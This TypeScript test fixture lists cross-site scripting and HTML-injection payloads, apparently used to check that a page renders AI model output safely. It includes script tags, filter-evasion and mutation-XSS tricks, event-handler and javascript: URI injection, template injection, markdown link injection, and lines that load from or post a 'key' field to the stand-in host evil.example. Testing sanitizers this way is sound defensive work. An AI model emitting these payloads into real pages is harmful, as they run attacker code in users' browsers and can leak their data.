const script = 'globalThis.pwned=1';
const sources = [
  'x',
  'javascript:pwned=1',
  'data:text/html,<script>pwned=1</script>',
  '//evil.example/x.js',
  '&#106;avascript:pwned=1',
];
const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus autofocus', 'onanimationstart', 'ontoggle'];

/** What a model may say to a careless page. */
export const hostileTexts: readonly string[] = [
  `<script>${script}</script>`,
  `</div></section><script>${script}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `"><script>${script}</script>`,
  `'-${script}-'`,
  `\`\${${script}}\``,
  `{{constructor.constructor('${script}')()}}`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><input name=key></form>`,
  `<template><img src=x onerror=${script}></template>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<!--><img src=x onerror=${script}>-->`,
  `<![CDATA[<img src=x onerror=${script}>]]>`,
  `&lt;img src=x onerror=${script}&gt;`,
  `\u2028<script>${script}</script>\u2029`,
  `<a href="javascript:${script}">a link</a>`,
  `[a link](javascript:${script})`,
  `![an image](x" onerror="${script})`,
  `<img src="x" alt="\u202e gnp.exe">`,
  `<details open ontoggle=${script}>x</details>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  ...sources.map((source) => `<iframe src="${source}"></iframe>`),
  ...sources.map((source) => `<object data="${source}"></object>`),
  ...sources.map((source) => `<embed src="${source}">`),
  ...handlers.map((handler) => `<img src=x ${handler}=${script}>`),
  ...handlers.map((handler) => `<svg><animate ${handler}=${script} attributeName=x dur=1s></svg>`),
];
